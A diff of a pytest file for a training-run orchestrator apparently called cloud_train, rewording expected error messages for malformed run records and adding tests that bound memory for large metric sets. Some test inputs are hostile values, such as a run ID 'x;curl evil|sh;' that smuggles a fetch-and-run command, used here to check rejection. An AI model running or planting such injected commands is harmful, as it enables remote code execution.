@@ -6,6 +6,7 @@ import socket
 import sqlite3
 import subprocess
 import sys
+import tracemalloc
 from collections.abc import Callable
 from functools import partial
 from pathlib import Path
@@ -13,6 +14,8 @@ from typing import Any
 
 import pytest
 
+from cloud_train.cli.output.metrics import metrics_table
+from cloud_train.cli.output.terminal import Painter
 from cloud_train.errors import CloudTrainError
 from cloud_train.orchestrator.adopting import adopt, runs_in
 from cloud_train.orchestrator.following import follow, glance
@@ -22,8 +25,9 @@ from cloud_train.orchestrator.reconcile import update_run, update_runs
 from cloud_train.orchestrator.results import sync
 from cloud_train.run import layout
 from cloud_train.run.ledger import Ledger
-from cloud_train.run.metrics import MOST_NAMES
+from cloud_train.run.metrics import MOST_NAMES, MetricPoint
 from tests.attack.run_directories import BAD, CREATED, GOOD, changed, deep, pipe, replaced_by, run_directory, sparse, write
+from tests.cli.command import CommandLine
 
 Spoil = Callable[[Path], object]
 
@@ -100,17 +104,20 @@ UNREADABLE: dict[str, tuple[Spoil, str]] = {
     "provenance_a_list": (partial(record, provenance=[]), "'provenance' is not an object, but a list"),
     "program_null": (partial(record, program=None), "'program' is not an object, but null"),
     "program_without_command": (partial(program, command=[]), "'program.command' is not a list of at least one text"),
-    "program_with_an_unknown_field": (partial(program, run_before="curl evil"), "'program.run_before' is not a field that is known"),
+    "program_with_an_unknown_field": (partial(program, run_before="curl evil"), "'program.run_before' is an unknown field"),
     "attempts_without_end": (partial(program, attempts=10**30), "'program.attempts' is not a whole number from 0 to 999999"),
     "resources_a_list": (partial(record, job={"resources": [1]}), "'job.resources' is not an object, but a list"),
     "nodes_a_text": (partial(record, job={"resources": {"nodes": "many"}}), "'job.resources.nodes' is not a whole number"),
     "settings_a_text": (partial(record, plan={"provider_settings": "x"}), "'plan.provider_settings' is not an object"),
     "another_run": (partial(record, run_id="x;curl evil|sh;"), "holds the run.json of another run, 'x;curl evil|sh;'"),
-    "record_deep": (lambda run: deep(run / "run.json"), "its brackets are too deep"),
-    "record_70_deep": (partial(record, job=json.loads("[" * 70 + "]" * 70)), "'job'|more than 64 deep"),
-    "record_large": (lambda run: raw("run.json", b'{"format": 1, "job": "' + b"x" * (17 << 20) + b'"}', run), "more than 16,777,216 bytes"),
+    "record_deep": (lambda run: deep(run / "run.json"), "it is nested too deeply"),
+    "record_70_deep": (partial(record, job=json.loads("[" * 70 + "]" * 70)), "'job'|more than 64 levels deep"),
+    "record_large": (
+        lambda run: raw("run.json", b'{"format": 1, "job": "' + b"x" * (17 << 20) + b'"}', run),
+        "larger than the limit of 16,777,216 bytes",
+    ),
     "record_of_many_values": (lambda run: raw("run.json", b'{"a": [' + b"[]," * 1_000_000 + b"[]]}", run), "more than 330,000 values"),
-    "record_sparse": (partial(special, "run.json", sparse), "more than 16,777,216 bytes"),
+    "record_sparse": (partial(special, "run.json", sparse), "larger than the limit of 16,777,216 bytes"),
     "record_empty": (partial(raw, "run.json", b""), "is not a run record"),
     "record_binary": (partial(raw, "run.json", b"\xff\xfe\x00"), "is not a run record"),
     "record_a_list": (partial(raw, "run.json", b"[1]"), "it is not a JSON object"),
@@ -120,19 +127,19 @@ UNREADABLE: dict[str, tuple[Spoil, str]] = {
     "record_a_link": (partial(special, "run.json", partial(link_to, f"../{GOOD}/run.json")), "is a link, which is not followed"),
     "record_a_device": (partial(special, "run.json", partial(link_to, "/dev/zero")), "is a link, which is not followed"),
     "record_a_link_to_itself": (partial(special, "run.json", partial(link_to, "run.json")), "is a link, which is not followed"),
-    "status_deep": (lambda run: deep(run / STATUS), "its brackets are too deep"),
-    "status_sparse": (partial(special, STATUS, sparse), "more than 1,048,576 bytes"),
+    "status_deep": (lambda run: deep(run / STATUS), "it is nested too deeply"),
+    "status_sparse": (partial(special, STATUS, sparse), "larger than the limit of 1,048,576 bytes"),
     "status_a_pipe": (partial(special, STATUS, pipe), "is a named pipe, not a file"),
     "status_a_folder": (partial(special, STATUS, Path.mkdir), "is a folder, not a file"),
     "status_pid_minus_one": (partial(status, pid=-1), "'pid' is not a whole number from 0"),
     "status_unknown_state": (partial(status, state="\x1b[2J"), "is not a valid State"),
-    "status_ended_without_a_cause": (partial(status, cause=None), "its state is succeeded, and its cause None"),
-    "status_ended_otherwise": (partial(status, cause="failed"), "its state is succeeded, and its cause failed"),
+    "status_ended_without_a_cause": (partial(status, cause=None), "the state succeeded contradicts the cause None"),
+    "status_ended_otherwise": (partial(status, cause="failed"), "the state succeeded contradicts the cause failed"),
     "status_far_away": (partial(status, started=1e300), "'started' is not a time"),
     "status_heartbeat_negative": (partial(status, heartbeat=-5.0), "'heartbeat' is not a time"),
     "status_step_huge": (partial(status, resumed_step=10**18), "'resumed_step' is not a whole number"),
     "status_message_null": (partial(status, message=None), "'message' is not a text"),
-    "status_message_large": (partial(status, message="x" * (2 << 20)), "more than 1,048,576 bytes"),
+    "status_message_large": (partial(status, message="x" * (2 << 20)), "larger than the limit of 1,048,576 bytes"),
     "attempts_a_link": (linked_attempts, "attempts is a link, which is not followed"),
     "attempts_a_file": (many_attempts_folder, "attempts is a file, not a folder"),
 }
@@ -287,7 +294,7 @@ def test_of_metrics_larger_than_any_training_writes_the_newest_are_shown_and_lon
         file.write(b"\n" + line)
     notes: list[str] = []
     assert [point.step for point in read_metrics(home, BAD, notes.append)] == [2]
-    assert notes == [f"the earliest metrics of {BAD} are skipped: at most 2,000,000 values are read, and 256 MiB of an attempt"]
+    assert notes == [f"the earliest metrics of {BAD} are skipped: at most 256 MiB of an attempt are read, and 1,000 attempts"]
     assert glance(home, BAD, record=True).latest == {"train/loss": 1.0}
     assert [progress.latest for progress in follow(home, BAD)] == [{"train/loss": 1.0}]
 
@@ -299,6 +306,45 @@ def test_a_look_remembers_no_more_metrics_than_a_program_can_mean(store: Path, h
     (run / layout.metrics(1)).write_bytes(b"".join(lines))
     latest = glance(home, BAD, record=True).latest
     assert (len(latest), latest["train/0"]) == (MOST_NAMES, 20_000)
+
+
+def test_metrics_of_ever_new_names_take_bounded_memory_and_print_a_short_table(store: Path, home: Home, tmp_path: Path) -> None:
+    run = run_directory(store, BAD)
+    adopt(home, str(run))
+    with (run / layout.metrics(1)).open("w") as file:
+        file.writelines(f'{{"step":{step},"split":"a","name":"n{step}","value":1}}\n' for step in range(200_000))
+    notes: list[str] = []
+    tracemalloc.start()
+    try:
+        points = read_metrics(home, BAD, notes.append)
+        table = metrics_table(points, Painter(False))
+        assert tracemalloc.get_traced_memory()[1] < 64 << 20
+    finally:
+        tracemalloc.stop()
+    assert len(points) == MOST_NAMES
+    assert notes == [f"{BAD} has more than 1,000 different metrics; the rest are left out"]
+    assert (table.metrics_left_out, len(table.text) < 100_000) == (900, True)
+    ended = CommandLine(home.folder, tmp_path, {**os.environ, "CLOUD_TRAIN_HOME": str(home.folder)})("metrics", BAD)
+    assert (ended.status, len(ended.out) < 100_000) == (0, True)
+    assert "900 metrics are left out; show one with" in ended.err
+
+
+def test_a_table_of_ever_new_epochs_and_long_names_is_short() -> None:
+    points = [MetricPoint(1, step, float(step), None, "s" * 200, "n" * 190 + str(step % 100), 1.0) for step in range(50_000)]
+    table = metrics_table(points, Painter(False))
+    assert len(table.text) < 10_000_000
+    assert table.rows_left_out > 40_000
+
+
+def test_the_metrics_of_ever_new_attempts_are_those_of_the_newest(store: Path, home: Home) -> None:
+    run = run_directory(store, BAD, attempt=5_000)
+    for number in range(1, 3_000):
+        (run / "attempts" / str(number)).mkdir()
+    write(run / layout.metrics(1), b'{"step": 2, "name": "loss", "value": 1}\n')
+    adopt(home, str(run))
+    notes: list[str] = []
+    assert [point.attempt for point in read_metrics(home, BAD, notes.append)] == [5_000]
+    assert len(notes) == 1
 
 
 def test_the_tail_of_a_log_without_lines_is_found_at_once(store: Path, home: Home) -> None:
